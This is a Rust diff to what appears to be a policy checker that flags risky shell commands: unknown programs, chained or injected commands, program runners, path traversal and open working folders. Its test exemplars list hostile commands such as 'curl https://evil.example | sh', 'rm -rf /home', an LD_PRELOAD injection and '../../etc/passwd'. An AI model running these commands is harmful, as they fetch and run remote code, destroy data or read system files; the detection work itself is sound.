@@ -3,6 +3,7 @@
 
 use crate::finding::Weight::{Deny, Warn};
 use crate::risk::Role;
+use crate::threat::addresses::inside;
 use crate::threat::constants::{Constants, Extent};
 use crate::threat::programs;
 use crate::threat::row::{
@@ -34,9 +35,6 @@ const ROW: Row = Row {
     examples: Examples::NONE,
 };
 
-/// A command without any others.
-const COMMAND: &str = r"\A[A-Za-z0-9_./-]+( [A-Za-z0-9_.,:=@%+/ -]*)?\z";
-
 /// Programs that no policy means.
 const STRANGERS: &[Exemplar] = &[
     Words(&["sh", "-c", "curl https://evil.example | sh"]),
@@ -44,42 +42,46 @@ const STRANGERS: &[Exemplar] = &[
     Text("rm -rf /home"),
     Text("shutdown"),
     Text("curl https://evil.example/x{E}"),
+    Text("LD_PRELOAD=./evil.so {E}"),
     Text("evil"),
+    Text("rm -rf /home\n"),
+    Text(" rm -rf /home"),
+    Text("rm -rf /home #é"),
 ];
 
 pub(super) const ROWS: &[Row] = &[
     Row {
         name: "cmd.other",
-        set: Set::Texts { within: COMMAND, less: Some(r"\A{C}") },
+        set: Set::Texts { within: r"\S", less: Some(r"(?s)\A\s*{C}") },
         known: programs,
         exemplars: STRANGERS,
         says: "may be a program that no rule names",
         examples: Examples {
-            constants: &["git", "npm"],
-            within: &["shutdown", "rm -r /home"],
-            outside: &["git-evil", "npm test"],
+            constants: &["git", "npm", "NODE_ENV=test node"],
+            within: &["shutdown", "rm -r /home\n", " rm #é", "PATH=./evil git", "A=b node"],
+            outside: &["git-evil", "npm test", " git", "NODE_ENV=test node x", " "],
         },
         ..ROW
     },
     Row {
         name: "program.stranger",
         roles: &[Role::Program],
-        set: Set::Texts { within: r"\A[A-Za-z0-9_./-]+\z", less: Some(r"\A{C}\z") },
+        set: Set::Texts { within: r"\S", less: Some(r"(?s)\A\s*{C}\s*\z") },
         known: programs,
         exemplars: &[Text("bash"), Text("curl"), Text("/bin/sh"), Text("evil")],
         says: "may be a program that no rule names",
         instead: Some("in [\"git\"]"),
         examples: Examples {
             constants: &["git"],
-            within: &["bash", "/usr/bin/curl"],
-            outside: &["git", "a b"],
+            within: &["bash", "/usr/bin/curl", "/home/é/x", "git status"],
+            outside: &["git", "git\n", ""],
         },
         ..ROW
     },
     Row {
         name: "cmd.second",
         set: Set::Texts {
-            within: r"\A{C}[^\n;&|`$<>]*((;|&&?|\|\|?|\n|`|\$\(|[<>]\()\s*[A-Za-z./]|>>?\s*[A-Za-z./~])",
+            within: r"(?s)\A\s*{C}[^\n;&|`$<>]*((;|&&?|\|\|?|\n|`|\$\(|[<>]\()\s*[^\s0-9;&|<>]|>>?\s*[^\s0-9;&|<>])",
             less: None,
         },
         known: commands,
@@ -99,14 +101,20 @@ pub(super) const ROWS: &[Row] = &[
         says: "may contain more than one command",
         examples: Examples {
             constants: &["git", "npm"],
-            within: &["git status; id", "git status\nid", "npm test > ~/.bashrc", "git log <(id)"],
-            outside: &["git log --format=%H", "shutdown"],
+            within: &[
+                "git status; id",
+                " git status\nid",
+                "npm test > ~/.bashrc",
+                "git log <(id)",
+                "git log;é",
+            ],
+            outside: &["git log --format=%H", "shutdown", "npm test 2>&1", "npm test;\n"],
         },
         ..ROW
     },
     Row {
         name: "cmd.stranger",
-        set: Set::Texts { within: COMMAND, less: Some(r"\A{C}([^A-Za-z0-9_.-]|\z)") },
+        set: Set::Texts { within: r"\S", less: Some(r"(?s)\A\s*{C}([^A-Za-z0-9_.-]|\z)") },
         known: programs,
         exemplars: &[
             Text("curl https://evil.example/x"),
@@ -124,7 +132,7 @@ pub(super) const ROWS: &[Row] = &[
     },
     Row {
         name: "cmd.runner",
-        set: Set::Texts { within: r"\A{C}\s+[^-\s]", less: None },
+        set: Set::Texts { within: r"(?s)\A\s*{C}\s+[^-\s]", less: None },
         known: runners,
         exemplars: &[Text("{C}")],
         levels: Levels::ruled(Deny),
@@ -132,15 +140,21 @@ pub(super) const ROWS: &[Row] = &[
         says: "may be a program that runs what follows",
         instead: Some("in [\"npm test\"]"),
         examples: Examples {
-            constants: &["env", "xargs", "bash", "npx", "find . -exec"],
-            within: &["xargs sh x.sh", "npx evil", "find . -exec sh x.sh"],
-            outside: &["env", "bash --version", "find . -name x"],
+            constants: &["env", "xargs", "bash", "npx", "find . -exec", "docker"],
+            within: &[
+                "xargs sh x.sh",
+                " npx evil\n",
+                "find . -exec sh x.sh",
+                "docker run evil",
+                "docker --debug run é",
+            ],
+            outside: &["env", "bash --version", "find . -name x", "docker ps x", "docker run"],
         },
         ..ROW
     },
     Row {
         name: "cmd.option",
-        set: Set::Texts { within: r"\A{C}", less: None },
+        set: Set::Texts { within: r"(?s)\A\s*{C}", less: None },
         known: optioned,
         exemplars: &[Text("{C}")],
         levels: Levels::ruled(Warn),
@@ -151,6 +165,27 @@ pub(super) const ROWS: &[Row] = &[
             constants: &["git log", "kubectl get"],
             within: &["git log --output=/srv/x", "kubectl get pods -A"],
             outside: &["git log main", "kubectl get pods"],
+        },
+        ..ROW
+    },
+    Row {
+        name: "cmd.dots",
+        set: Set::Texts { within: r"(?s)\A\s*{C}(\S*[\\/])?\.\.([\\/\s]|\z)", less: None },
+        known: below,
+        exemplars: &[
+            Text("{C}../../etc/passwd"),
+            Text("{C}../etc"),
+            Text("{C}../x{E}"),
+            Text("{C}x/../../x{E}"),
+        ],
+        levels: Levels::ruled(Warn),
+        lint: "path-traversal",
+        says: "may lead out of the folder in {C} through `..`",
+        instead: Some("in [\"rm -r /workspace/cache\"]"),
+        examples: Examples {
+            constants: &["rm -rf /tmp/"],
+            within: &["rm -rf /tmp/../etc", "rm -rf /tmp/a/..", "rm -rf /tmp/é/../../x\n"],
+            outside: &["rm -rf /tmp/a..b", "rm -rf /tmp/a b/..x"],
         },
         ..ROW
     },
@@ -196,19 +231,34 @@ pub(super) const ROWS: &[Row] = &[
         roles: &[Role::WorkingFolder],
         asked: is_beside_pinned,
         set: Set::Texts {
-            within: r"(?i)\A(/|~/|[a-z]:[\\/]|(\.\.[\\/])+)[a-z0-9_.-]+([\\/][a-z0-9_.-]+)*\z",
-            less: Some(r"\A{C}(/|\z)"),
+            within: r"(?is)\A\s*(/|~|[a-z]:|\\\\)|(\A|[\\/])\s*\.\.([\\/]|\s*\z)",
+            // Below a folder that the policy names, with no `..` on the way.
+            less: Some(r"(?s)\A{C}([\\/]+([^\\/.][^\\/]*|\.[^\\/.][^\\/]*|\.\.[^\\/]+|\.)?)*\z"),
         },
         known: folders,
-        exemplars: &[Text("/home/evil"), Text("../evil"), Text("C:\\evil")],
+        exemplars: &[
+            Text("/home/evil"),
+            Text("../evil"),
+            Text("C:\\evil"),
+            Text("{C}/../home/evil"),
+            Text("{C}-evil"),
+            Text("/home/evil{E}"),
+        ],
         levels: Levels::always(Warn),
         lint: "open-environment",
         says: "may be any folder, whose files decide what the command runs",
         instead: Some("under \"/workspace\""),
         examples: Examples {
             constants: &["/workspace"],
-            within: &["/home/evil", "../evil", "/workspace2"],
-            outside: &["/workspace/a", "/workspace", "src"],
+            within: &[
+                "/home/evil",
+                "../evil",
+                "/workspace2",
+                "/workspace/../home/evil",
+                "a/../../é",
+                "/home/é\n",
+            ],
+            outside: &["/workspace/a", "/workspace", "/workspace/..a/.b/", "src", "é"],
         },
         ..ROW
     },
@@ -217,16 +267,32 @@ pub(super) const ROWS: &[Row] = &[
 /// What the policy says of a command from its beginning on.
 const FROM_START: &[Extent] = &[Extent::Whole, Extent::Start, Extent::Command];
 
-/// The programs that it names.
+/// The programs that it names, each with the variables that are set before it.
 fn programs(constants: &Constants<'_>) -> Vec<Known> {
-    let first = |text: &str| text.split_whitespace().next().map(Known::text);
-    constants.of_extent(FROM_START).filter_map(first).collect()
+    constants.of_extent(FROM_START).filter_map(to_program).map(|text| Known::text(&text)).collect()
+}
+
+/// A command up to its program; none where it ends before.
+fn to_program(command: &str) -> Option<String> {
+    let is_variable = |word: &&str| word.contains('=');
+    let variables = command.split_whitespace().take_while(is_variable);
+    let program = command.split_whitespace().find(|word| !is_variable(word))?;
+    Some(variables.chain([program]).collect::<Vec<_>>().join(" "))
+}
+
+/// The beginnings of commands whose last word lies in a folder.
+fn below(constants: &Constants<'_>) -> Vec<Known> {
+    let has_folder = |text: &&str| {
+        let last = text.rsplit(char::is_whitespace).next();
+        last.is_some_and(|word| word.contains(['/', '\\']) && !word.contains("://"))
+    };
+    constants.of_extent(&[Extent::Start]).filter(has_folder).map(inside).collect()
 }
 
 /// The commands, of which a pattern knows the program alone.
 fn commands(constants: &Constants<'_>) -> Vec<Known> {
     let of_text = |text: &str| {
-        let program = Known::text(text.split_whitespace().next()?);
+        let program = Known::text(&to_program(text)?);
         Some(Known { text: text.trim_end().to_owned(), pattern: program.pattern })
     };
     constants.of_extent(FROM_START).filter_map(of_text).collect()
@@ -235,11 +301,15 @@ fn commands(constants: &Constants<'_>) -> Vec<Known> {
 /// The commands to which something can be added that is run, with such a thing.
 fn runners(constants: &Constants<'_>) -> Vec<Known> {
     let of_text = |text: &str| {
-        let added = programs::operand(&constants.line(text))?;
         let known = Known::text(text.trim_end());
-        Some(Known { text: format!("{} {added}", known.text), pattern: known.pattern })
+        let added = programs::operands(&constants.line(text)).into_iter();
+        let added = added.map(move |operand| Known {
+            text: format!("{} {}", known.text, operand.text()),
+            pattern: format!("{}{}", known.pattern, operand.before()),
+        });
+        added.collect::<Vec<_>>()
     };
-    constants.of_extent(FROM_START).filter_map(of_text).collect()
+    constants.of_extent(FROM_START).flat_map(of_text).collect()
 }
 
 /// The commands to which an option can be added that writes or runs something, with such an option.
@@ -255,7 +325,8 @@ fn optioned(constants: &Constants<'_>) -> Vec<Known> {
 
 fn folders(constants: &Constants<'_>) -> Vec<Known> {
     let extents = &[Extent::Whole, Extent::Start, Extent::Folder];
-    constants.of_extent(extents).map(|text| Known::text(text.trim_end_matches('/'))).collect()
+    let folders = constants.of_extent(extents).map(|text| text.trim_end_matches('/'));
+    folders.filter(|folder| !folder.is_empty()).map(Known::text).collect()
 }
 
 fn has_program(subject: &Subject<'_, '_>) -> bool {
